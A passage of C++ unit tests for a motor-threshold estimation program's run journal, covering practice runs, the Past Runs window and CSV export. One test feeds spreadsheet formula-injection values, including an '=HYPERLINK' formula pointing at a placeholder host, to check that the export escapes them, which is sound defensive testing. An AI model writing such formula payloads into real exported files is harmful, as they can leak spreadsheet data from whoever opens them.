    EXPECT_EQ(big(), "100+");
    EXPECT_EQ(textColour(w.StaticText4), kDesignRed);
    EXPECT_EQ(caption(), "rMT Estimate Reached :");
    for (const QLabel* value : {w.StaticText7, w.StaticText8, w.StaticText9, w.StaticText13,
                                w.StaticText14, w.StaticText15}) {
        EXPECT_EQ(value->text(), "--");
    }
    w.PushButton4->click();
    const QString above = w.outputWindow()->EditField1->text();
    EXPECT_NE(above.indexOf(QLatin1String("\rResting Motor Threshold = above 100\r")), -1);
    EXPECT_NE(above.indexOf(QLatin1String("\r80% = --\r")), -1);
    ASSERT_TRUE(settled());
    EXPECT_EQ(column(journalPath(), QStringLiteral("SELECT ifnull(estimate, 'none') || ' ' || "
                                                   "above_100 FROM runs WHERE id = 2")),
              QStringList{"none 1"});
    const std::vector<QStringList> rows = parseCsv(
        journalCsv(*RunJournal::open(journalPath(), RunJournal::Access::Read).journal,
                   RunJournal::open(journalPath(), RunJournal::Access::Read).journal->runs()));
    ASSERT_GT(rows.size(), 1U);
    EXPECT_EQ(rows[1][15], "1");  // the newest run first
    EXPECT_EQ(rows[1][5], "");
}

// A practice run, kept while another program holds the journal, reaches it marked as
// practice with the virtual patient's threshold; Past Runs and the CSV leave it out until
// "Show practice runs" is ticked.
TEST_F(Journal, APracticeRunIsKeptMarkedAndListedOnlyWhenAsked) {
    Window1& w = openWithJournal();
    w.PushButton1->click();  // a patient
    type("yynnyny");
    w.PushButton3->click();
    ASSERT_TRUE(settled());
    std::optional<Lock> lock(journalPath());
    w.startPractice();
    for (const char key : std::string("ynyn")) {
        firePulse();
        answer(key);
    }
    const double threshold = w.practicePatient()->threshold();
    w.PushButton3->click();
    pass(300);
    EXPECT_EQ(w.notice(), notice::kJournalWaiting);
    lock.reset();
    ASSERT_TRUE(settled());
    const auto runs = [this](const char* what) {
        return column(journalPath(),
                      QStringLiteral("SELECT %1 FROM runs ORDER BY id").arg(QLatin1String(what)));
    };
    EXPECT_EQ(runs("practice"), (QStringList{"0", "1"}));
    EXPECT_EQ(runs("(SELECT COUNT(*) FROM answers WHERE run_id = runs.id)"),
              (QStringList{"7", "4"}));
    const QStringList thresholds = runs("IFNULL(true_threshold, 'none')");
    ASSERT_EQ(thresholds.size(), 2);
    EXPECT_EQ(thresholds[0], "none");
    EXPECT_NEAR(thresholds[1].toDouble(), threshold, 1e-9);

    w.showPastRuns();
    auto* past = w.findChild<PastRunsWindow*>();
    ASSERT_NE(past, nullptr);
    const QString csvPath = dir.filePath(QStringLiteral("runs.csv"));
    fake.dialogs.saveAnswer = csvPath;
    const auto exported = [&] {
        past->exportCsv();
        QFile csv(csvPath);
        EXPECT_TRUE(csv.open(QIODevice::ReadOnly));
        return parseCsv(QString::fromUtf8(csv.readAll()));
    };
    EXPECT_FALSE(past->showPractice->isChecked());
    ASSERT_EQ(past->table->rowCount(), 1);
    EXPECT_EQ(past->table->item(0, PastRunsWindow::kMethod)->text(), "adaptive PEST");
    EXPECT_EQ(past->status->text(),
              "1 run, and 1 practice run not shown; the note is yours to edit.");
    std::vector<QStringList> rows = exported();
    ASSERT_EQ(rows.size(), 8U);  // the header and the patient's 7 answers
    EXPECT_EQ(rows[7][17], "0");
    EXPECT_EQ(rows[7][18], "");

    past->showPractice->setChecked(true);
    ASSERT_EQ(past->table->rowCount(), 2);
    EXPECT_EQ(past->table->item(0, PastRunsWindow::kMethod)->text(),
              "adaptive PEST \u2013 practice");
    rows = exported();
    ASSERT_EQ(rows.size(), 12U);  // the practice run's 4 answers come first, the newest
    EXPECT_EQ(rows[1][17], "1");
    EXPECT_NEAR(rows[1][18].toDouble(), threshold, 1e-9);
    EXPECT_EQ(rows[11][17], "0");

    // Its report, composed from the journal, says PRACTICE.
    past->table->selectRow(0);
    EXPECT_TRUE(w.outputWindow()->EditField1->text().contains(
        QStringLiteral("\rLimenta\r") + QString::fromUtf8(kPracticeTitle) + QLatin1Char('\r')));
}

TEST_F(Journal, AnExportedCsvRunsNoFormulaAndKeepsItsNumbersNumbers) {
    RunJournal::Opened opened = RunJournal::open(journalPath(), RunJournal::Access::Write);
    ASSERT_TRUE(opened.journal) << opened.problem.toStdString();
    const QStringList notes{QStringLiteral("=HYPERLINK(\"http://x\"&A1,\"click\")"),
                            QStringLiteral("+1"),
                            QStringLiteral("-12"),
                            QStringLiteral("@SUM(A1)"),
                            QStringLiteral("\tP-1"),
                            QStringLiteral("\rP-2"),
                            QStringLiteral("P-3 = fine")};
    for (const QString& note : notes) {
        JournalRun run;
        run.uid = note;
        run.method = QStringLiteral("ml");
        run.started = QStringLiteral("2026-12-09T10:00:00Z");
        run.settings = QStringLiteral("{}");
        ASSERT_TRUE(opened.journal->write({JournalWrite::start(run)}));
        const qint64 id = opened.journal->runs().front().id;
        ASSERT_TRUE(opened.journal->write(
            {JournalWrite::noted(id, note), JournalWrite::taken(run, {1, -0.5, 1, 43, 7, "t"})}));
    }
    const std::vector<JournalRun> runs = opened.journal->runs();
    const std::vector<QStringList> rows = parseCsv(journalCsv(*opened.journal, runs));
    ASSERT_EQ(rows.size(), 1 + notes.size());
    for (std::size_t r = 1; r < rows.size(); ++r) {
        const QString& note = runs[r - 1].note;
        const bool formulaStart = QStringLiteral("=+-@\t\r").contains(note.front());
        EXPECT_EQ(rows[r][8], formulaStart ? QLatin1Char('\'') + note : note);
        EXPECT_EQ(rows[r][10], "-0.5");  // a number stays a number, its sign and all
    }
}

TEST_F(Journal, AThousandRunsComeBackWholeFromTheirCsv) {
    RunJournal::Opened opened = RunJournal::open(journalPath(), RunJournal::Access::Write);
    ASSERT_TRUE(opened.journal) << opened.problem.toStdString();
    RunJournal& journal = *opened.journal;
    const QStringList notes{QStringLiteral("P-1, \"left\""), QStringLiteral("two\nlines"),
                            QStringLiteral("plain"), QString()};
    for (int r = 1; r <= 1000; ++r) {
        JournalRun run;
        run.uid = QString::number(r);
        run.started = QStringLiteral("2026-12-%1T10:00:00+01:00").arg(r % 28 + 1);
        run.method = QLatin1String(methods()[static_cast<std::size_t>(r) % methods().size()].key);
        run.settings = QStringLiteral(R"({"initial_output":"5,5"})");
        if (r % 5 == 0) {
            run.practice = true;
            run.trueThreshold = 30 + r / 21.0;
        }
        std::vector<JournalWrite> writes{JournalWrite::start(run),
                                         JournalWrite::noted(r, notes[r % notes.size()])};
        for (int t = 1; t <= r % 4; ++t) {  // some runs without answers
            writes.push_back(
                JournalWrite::taken(run, {t, 40 + t / 3.0, t % 2, 41.0 / t, 7.0 / t,
                                          QStringLiteral("2026-12-01T10:00:0%1Z").arg(t)}));
        }
        if (r % 4 == 3) {  // the third answer taken back: still a row, marked
            JournalAnswer third;
            third.seq = 3;
            third.withdrawnAt = QStringLiteral("2026-12-01T10:00:09Z");
            writes.push_back(JournalWrite::withdrawn(run, third));
        }
        ASSERT_TRUE(journal.write(writes));
    }
    const std::vector<JournalRun> runs = journal.runs();
    const std::vector<QStringList> rows = parseCsv(journalCsv(journal, runs));
    ASSERT_FALSE(rows.empty());
    EXPECT_EQ(rows[0].join(QLatin1Char(',')),
              "run_id,started,ended,method,settings,estimate,interval_low,interval_high,note,"
              "trial,fired,answer,next,diff,at,above_100,withdrawn_at,practice,true_threshold");
    std::size_t at = 1;
    for (const JournalRun& run : runs) {
        const std::vector<JournalAnswer> answers = journal.answers(run.id);
        for (std::size_t a = 0; a < std::max<std::size_t>(answers.size(), 1); ++a) {
            ASSERT_LT(at, rows.size());
            const QStringList& row = rows[at++];
            ASSERT_EQ(row.size(), 19) << row.join(QLatin1Char('|')).toStdString();
            EXPECT_EQ(row[15], "0");
            EXPECT_EQ(row[17], run.practice ? "1" : "0");
            EXPECT_EQ(row[18].isEmpty(), !run.practice);
            EXPECT_EQ(row[18].toDouble(), run.trueThreshold.value_or(0));  // every bit
            EXPECT_EQ(row[0].toLongLong(), run.id);
            EXPECT_EQ(row[1], run.started);
            EXPECT_EQ(row[3], run.method);
            EXPECT_EQ(row[4], run.settings);
            EXPECT_EQ(row[8], run.note);
            if (answers.empty()) {
                EXPECT_TRUE(row[9].isEmpty());
                continue;
            }
            EXPECT_EQ(row[9].toInt(), answers[a].trial);
            EXPECT_EQ(row[10].toDouble(), answers[a].fired);  // every bit
            EXPECT_EQ(row[11].toInt(), answers[a].answer);
            EXPECT_EQ(row[12].toDouble(), answers[a].next);
            EXPECT_EQ(row[13].toDouble(), answers[a].diff);
            EXPECT_EQ(row[14], answers[a].at);
            EXPECT_EQ(row[16], a == 2 ? QStringLiteral("2026-12-01T10:00:09Z") : QString());
        }
        if (HasFailure()) {
            return;
        }
    }
    EXPECT_EQ(at, rows.size());
    EXPECT_EQ(at, 1U + 250U * (1 + 1 + 2 + 3));  // 1000 runs of 0 (one row), 1, 2 and 3 answers
}

}  // namespace
}  // namespace limenta::testing
